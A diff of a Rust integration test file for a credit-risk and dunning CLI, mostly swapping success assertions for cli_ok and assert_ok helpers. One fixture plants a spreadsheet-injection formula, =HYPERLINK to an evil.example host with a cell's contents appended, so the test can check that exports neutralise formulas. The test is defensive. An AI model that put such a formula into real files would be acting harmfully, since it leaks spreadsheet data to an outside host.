@@ -10,19 +10,17 @@ mod returns;
 mod usage;
 
 use common::{
-    assert_refused, assert_says, cli, cli_closed_stdout, cli_stdin, demo_book, import_existing,
-    new_book, pdf_text, stderr, stdout,
+    assert_ok, assert_refused, assert_says, cli, cli_closed_stdout, cli_ok, cli_stdin, demo_book,
+    import_existing, new_book, pdf_text, stderr, stdout,
 };
 
 #[test]
 fn demo_then_list_shows_the_demo_customers() {
     let dir = tempfile::tempdir().unwrap();
     let db = dir.path().join("demo.db");
-    let out = cli(&db, &["demo"]);
-    assert!(out.status.success(), "{}", stderr(&out));
+    let out = cli_ok(&db, &["demo"]);
     assert!(stdout(&out).contains("recovery key"));
-    let out = cli(&db, &["customers", "list"]);
-    assert!(out.status.success(), "{}", stderr(&out));
+    let out = cli_ok(&db, &["customers", "list"]);
     let text = stdout(&out);
     assert!(text.contains("台北雲端科技股份有限公司"));
     assert!(text.contains("Pacific Northwest Dental Group"));
@@ -86,7 +84,7 @@ Card Shop,TW,TWD,active,prepaid_card
     assert_refused(&out, "prepaid.csv:2 field payment_instrument");
     // Brought in as an existing book, with a reason: each exception is recorded.
     let out = import_existing(cli, &db, good.to_str().unwrap(), "the book as it was");
-    assert!(out.status.success(), "{}", stderr(&out));
+    assert_ok(&out);
     assert!(stdout(&out).contains("2 created"));
     assert_says(&out, "1 onboarding exception(s) recorded");
     let out = import_existing(cli, &db, good.to_str().unwrap(), "the book as it was");
@@ -108,9 +106,7 @@ Card Shop,TW,TWD,active,prepaid_card
     assert!(!list.contains("New Co"), "a bad file must write nothing");
 
     let export = dir.path().join("out.csv");
-    assert!(cli(&db, &["customers", "export", export.to_str().unwrap()])
-        .status
-        .success());
+    cli_ok(&db, &["customers", "export", export.to_str().unwrap()]);
     let out = cli(&db, &["customers", "import", export.to_str().unwrap()]);
     assert_says(&out, "2 unchanged");
 }
@@ -151,7 +147,7 @@ fn a_change_is_kept_when_scoring_fails_after_it() {
             .unwrap()
     };
     let rows_before = history();
-    assert!(cli(&db, &["risk", "--json"]).status.success());
+    cli_ok(&db, &["risk", "--json"]);
     assert_eq!(history(), rows_before, "reading the scores wrote nothing");
     let conn = riskdesk_core::store::open(&db, &k).unwrap();
     conn.execute(
@@ -160,7 +156,7 @@ fn a_change_is_kept_when_scoring_fails_after_it() {
         )
         .unwrap();
     drop(conn);
-    let out = cli(
+    let out = cli_ok(
         &db,
         &[
             "rates",
@@ -175,7 +171,6 @@ fn a_change_is_kept_when_scoring_fails_after_it() {
             "32.1",
         ],
     );
-    assert!(out.status.success(), "{}", stderr(&out));
     assert!(
         stderr(&out).contains("the change is saved") && stderr(&out).contains("nonsense"),
         "{}",
@@ -189,8 +184,7 @@ fn a_change_is_kept_when_scoring_fails_after_it() {
 fn backup_and_restore_round_trip() {
     let (dir, db) = demo_book("main.db");
     let backup = dir.path().join("backup.db");
-    let out = cli(&db, &["backup", backup.to_str().unwrap()]);
-    assert!(out.status.success(), "{}", stderr(&out));
+    cli_ok(&db, &["backup", backup.to_str().unwrap()]);
     let key = stdout(&cli(&db, &["recovery-key"])).trim().to_string();
 
     // Restore onto another "computer": a new path with no key in the keychain.
@@ -207,11 +201,10 @@ fn backup_and_restore_round_trip() {
     let out = cli_stdin(&elsewhere, &restore, "0000-1111\n");
     assert!(!out.status.success());
     let out = cli_stdin(&elsewhere, &restore, &format!("{key}\n"));
-    assert!(out.status.success(), "{}", stderr(&out));
+    assert_ok(&out);
     assert!(stdout(&cli(&elsewhere, &["customers", "list"])).contains("45 customers"));
     // Restoring again keeps the database it replaces beside it.
-    let out = cli(&elsewhere, &["restore", backup.to_str().unwrap()]);
-    assert!(out.status.success(), "{}", stderr(&out));
+    let out = cli_ok(&elsewhere, &["restore", backup.to_str().unwrap()]);
     assert_says(&out, "before-restore");
     assert!(dir.path().join("elsewhere.db.before-restore").exists());
 }
@@ -225,19 +218,16 @@ fn errors_go_to_stderr_with_a_non_zero_exit_code() {
     assert!(stdout(&out).is_empty());
     // A paper that is neither A4 nor Letter is refused with the setting named.
     let db = dir.path().join("paper.db");
-    assert!(cli(&db, &["init"]).status.success());
+    cli_ok(&db, &["init"]);
     let out = cli(&db, &["settings", "set", "paper", "a5"]);
     assert_refused(&out, "paper: use a4 or letter");
-    assert!(cli(&db, &["settings", "set", "paper", "letter"])
-        .status
-        .success());
+    cli_ok(&db, &["settings", "set", "paper", "letter"]);
 }
 
 #[test]
 fn the_demo_dunning_run_reaches_every_level_and_a_second_run_changes_nothing() {
     let (dir, db) = demo_book("dun.db");
-    let out = cli(&db, &["dunning", "plan", "--json"]);
-    assert!(out.status.success(), "{}", stderr(&out));
+    let out = cli_ok(&db, &["dunning", "plan", "--json"]);
     let plan: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
     let levels: std::collections::BTreeSet<i64> = plan["customers"]
         .as_array()
@@ -253,7 +243,7 @@ fn the_demo_dunning_run_reaches_every_level_and_a_second_run_changes_nothing() {
 
     let letters = dir.path().join("letters");
     let fingerprint = plan["fingerprint"].as_str().unwrap().to_string();
-    let out = cli(
+    cli_ok(
         &db,
         &[
             "dunning",
@@ -264,7 +254,6 @@ fn the_demo_dunning_run_reaches_every_level_and_a_second_run_changes_nothing() {
             &fingerprint,
         ],
     );
-    assert!(out.status.success(), "{}", stderr(&out));
     // The run's documents are in a folder of its own.
     let folders: Vec<std::path::PathBuf> = std::fs::read_dir(&letters)
         .unwrap()
@@ -294,7 +283,7 @@ fn the_demo_dunning_run_reaches_every_level_and_a_second_run_changes_nothing() {
     assert_says(&out, "nothing to do");
     assert!(!again.exists());
     assert_eq!(stdout(&cli(&db, &["aging", "--json"])), before);
-    assert!(cli(&db, &["audit", "verify"]).status.success());
+    cli_ok(&db, &["audit", "verify"]);
 }
 
 #[test]
@@ -316,8 +305,7 @@ fn invoices_and_payments_import_all_or_nothing_and_idempotently() {
          INV-2,11111111-1111-4111-8111-111111111111,2026-10-01,TWD,Azure plan,1,30000\n",
     )
     .unwrap();
-    let out = cli(&db, &["invoices", "import", invoices.to_str().unwrap()]);
-    assert!(out.status.success(), "{}", stderr(&out));
+    let out = cli_ok(&db, &["invoices", "import", invoices.to_str().unwrap()]);
     assert_says(&out, "2 invoices created");
     let out = cli(&db, &["invoices", "import", invoices.to_str().unwrap()]);
     assert_says(&out, "0 invoices created, 2 unchanged");
@@ -327,11 +315,7 @@ fn invoices_and_payments_import_all_or_nothing_and_idempotently() {
     let out = cli(&db, &["payments", "import", payments.to_str().unwrap()]);
     assert_refused(&out, "pay.csv:3 field customer");
     std::fs::write(&payments, "reference,customer,received_on,amount,currency\nTX-1,Contoso Ltd,2026-10-10,\"60,000.50\",TWD\n").unwrap();
-    assert!(
-        cli(&db, &["payments", "import", payments.to_str().unwrap()])
-            .status
-            .success()
-    );
+    cli_ok(&db, &["payments", "import", payments.to_str().unwrap()]);
     assert!(stdout(&cli(
         &db,
         &["payments", "import", payments.to_str().unwrap()]
@@ -368,8 +352,7 @@ fn a_run_whose_documents_were_lost_is_reprinted_identically() {
     assert!(!out_dir.exists());
     let runs = stdout(&cli(&db, &["dunning", "runs", "--json"]));
     assert_eq!(runs.trim(), "[]", "{runs}");
-    let out = cli(&db, &["dunning", "run", "--out", out_dir.to_str().unwrap()]);
-    assert!(out.status.success(), "{}", stderr(&out));
+    cli_ok(&db, &["dunning", "run", "--out", out_dir.to_str().unwrap()]);
     let folder = std::fs::read_dir(&out_dir)
         .unwrap()
         .next()
@@ -415,8 +398,7 @@ fn a_run_whose_documents_were_lost_is_reprinted_identically() {
         runs.contains("missing") && runs.contains("reprint 1"),
         "{runs}"
     );
-    let out = cli(&db, &["dunning", "reprint", "1"]);
-    assert!(out.status.success(), "{}", stderr(&out));
+    cli_ok(&db, &["dunning", "reprint", "1"]);
     assert_eq!(originals, texts_of(&folder));
     // Byte for byte: a reprint has the same SHA-256 as the first print.
     for ((name, first), (_, second)) in original_bytes.iter().zip(bytes_of(&folder).iter()) {
@@ -424,19 +406,15 @@ fn a_run_whose_documents_were_lost_is_reprinted_identically() {
     }
     assert!(stdout(&cli(&db, &["dunning", "runs"])).contains("files in"));
     // A settings change after the run does not change its letters.
-    assert!(cli(
+    cli_ok(
         &db,
-        &["settings", "set", "letterhead.name", "Someone Else Ltd"]
-    )
-    .status
-    .success());
+        &["settings", "set", "letterhead.name", "Someone Else Ltd"],
+    );
     let other = dir.path().join("other");
-    assert!(cli(
+    cli_ok(
         &db,
-        &["dunning", "reprint", "1", "--out", other.to_str().unwrap()]
-    )
-    .status
-    .success());
+        &["dunning", "reprint", "1", "--out", other.to_str().unwrap()],
+    );
     let combined = std::fs::read_dir(other.join(folder.file_name().unwrap()))
         .unwrap()
         .map(|e| e.unwrap().path())
@@ -508,7 +486,7 @@ fn partial_imports_keep_other_fields_and_exports_carry_no_formulas() {
     )
     .unwrap();
     let out = import_existing(cli, &db, full.to_str().unwrap(), "the book as it was");
-    assert!(out.status.success(), "{}", stderr(&out));
+    assert_ok(&out);
     let partial = dir.path().join("partial.csv");
     std::fs::write(
         &partial,
@@ -516,17 +494,14 @@ fn partial_imports_keep_other_fields_and_exports_carry_no_formulas() {
          \"=HYPERLINK(\"\"http://evil.example\"\"&A1;\"\"click\"\")\",TW,TWD,11111111-1111-4111-8111-111111111111\n",
     )
     .unwrap();
-    let out = cli(&db, &["customers", "import", partial.to_str().unwrap()]);
-    assert!(out.status.success(), "{}", stderr(&out));
+    cli_ok(&db, &["customers", "import", partial.to_str().unwrap()]);
     let list: serde_json::Value =
         serde_json::from_slice(&cli(&db, &["customers", "list", "--json"]).stdout).unwrap();
     let c = &list[0];
     assert_eq!(c["status"], "active", "{c}");
     assert_eq!(c["credit_limit"]["minor"], 15_000_000, "{c}");
     let export = dir.path().join("export.csv");
-    assert!(cli(&db, &["customers", "export", export.to_str().unwrap()])
-        .status
-        .success());
+    cli_ok(&db, &["customers", "export", export.to_str().unwrap()]);
     let text = std::fs::read_to_string(&export).unwrap();
     let mut rdr = csv::Reader::from_reader(text.as_bytes());
     for rec in rdr.records() {
@@ -539,8 +514,7 @@ fn partial_imports_keep_other_fields_and_exports_carry_no_formulas() {
     }
     assert!(text.contains("'=HYPERLINK") && text.contains("'@SUM(1+1)") && text.contains("'+886"));
     // Importing the export back changes nothing: the apostrophes come off again.
-    let out = cli(&db, &["customers", "import", export.to_str().unwrap()]);
-    assert!(out.status.success(), "{}", stderr(&out));
+    let out = cli_ok(&db, &["customers", "import", export.to_str().unwrap()]);
     assert_says(&out, "1 unchanged");
 }
 
@@ -549,8 +523,7 @@ fn partial_imports_keep_other_fields_and_exports_carry_no_formulas() {
 #[test]
 fn risk_reports_are_written_from_the_cli_in_both_languages() {
     let (dir, db) = demo_book("risk.db");
-    let out = cli(&db, &["risk", "--json"]);
-    assert!(out.status.success(), "{}", stderr(&out));
+    let out = cli_ok(&db, &["risk", "--json"]);
     let scores: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
     let list = scores.as_array().unwrap();
     let nimbus = list
@@ -562,11 +535,10 @@ fn risk_reports_are_written_from_the_cli_in_both_languages() {
     let id = nimbus["customer_id"].as_i64().unwrap().to_string();
 
     let portfolio = dir.path().join("portfolio.pdf");
-    let out = cli(
+    cli_ok(
         &db,
         &["report", "risk", "--out", portfolio.to_str().unwrap()],
     );
-    assert!(out.status.success(), "{}", stderr(&out));
     let text = pdf_text(&portfolio);
     assert!(text.contains("Portfolio risk report"));
     // Every customer scored (closed ones are not).
@@ -576,11 +548,10 @@ fn risk_reports_are_written_from_the_cli_in_both_languages() {
     );
     assert!(text.contains("This is the first portfolio report"));
     // The second report compares with the first.
-    let out = cli(
+    cli_ok(
         &db,
         &["report", "risk", "--out", portfolio.to_str().unwrap()],
     );
-    assert!(out.status.success(), "{}", stderr(&out));
     let since = pdf_text(&portfolio);
     assert!(since.contains("Since the last report ("), "{since}");
     assert!(
@@ -589,7 +560,7 @@ fn risk_reports_are_written_from_the_cli_in_both_languages() {
     );
 
     let customer = dir.path().join("nimbus-zh.pdf");
-    let out = cli(
+    cli_ok(
         &db,
         &[
             "report",
@@ -602,7 +573,6 @@ fn risk_reports_are_written_from_the_cli_in_both_languages() {
             customer.to_str().unwrap(),
         ],
     );
-    assert!(out.status.success(), "{}", stderr(&out));
     let text = pdf_text(&customer);
     assert!(text.contains("客戶風險報告"));
     assert!(text.contains("Nimbus Startup Studio Pte. Ltd."));
@@ -653,7 +623,7 @@ fn a_closed_output_ends_a_command_quietly_after_its_work() {
     assert!(!err.contains("panicked"), "{err}");
     assert!(db.exists());
     let db = dir.path().join("pipe-demo.db");
-    assert!(cli(&db, &["demo"]).status.success());
+    cli_ok(&db, &["demo"]);
     let out_dir = dir.path().join("letters");
     let (status, err) =
         cli_closed_stdout(&db, &["dunning", "run", "--out", out_dir.to_str().unwrap()]);
@@ -711,8 +681,7 @@ fn an_id_that_does_not_exist_is_an_error_not_an_empty_answer() {
     let (dir, db) = demo_book("ids.db");
     let out = cli(&db, &["risk", "--customer", "999999"]);
     assert_refused(&out, "999999");
-    let out = cli(&db, &["risk", "--customer", "1"]);
-    assert!(out.status.success(), "{}", stderr(&out));
+    cli_ok(&db, &["risk", "--customer", "1"]);
     let report = dir.path().join("r.pdf");
     let out = cli(
         &db,
@@ -776,14 +745,12 @@ fn file_errors_name_their_path() {
 fn a_wrong_key_restore_says_so_in_one_message() {
     let dir = tempfile::tempdir().unwrap();
     let a = dir.path().join("a.db");
-    assert!(cli(&a, &["init"]).status.success());
+    cli_ok(&a, &["init"]);
     let backup = dir.path().join("a.bak");
-    assert!(cli(&a, &["backup", backup.to_str().unwrap()])
-        .status
-        .success());
+    cli_ok(&a, &["backup", backup.to_str().unwrap()]);
     // Another database, another key: its key does not open the backup.
     let b = dir.path().join("b.db");
-    assert!(cli(&b, &["init"]).status.success());
+    cli_ok(&b, &["init"]);
     let out = cli(&b, &["restore", backup.to_str().unwrap()]);
     assert!(!out.status.success());
     let err = stderr(&out);
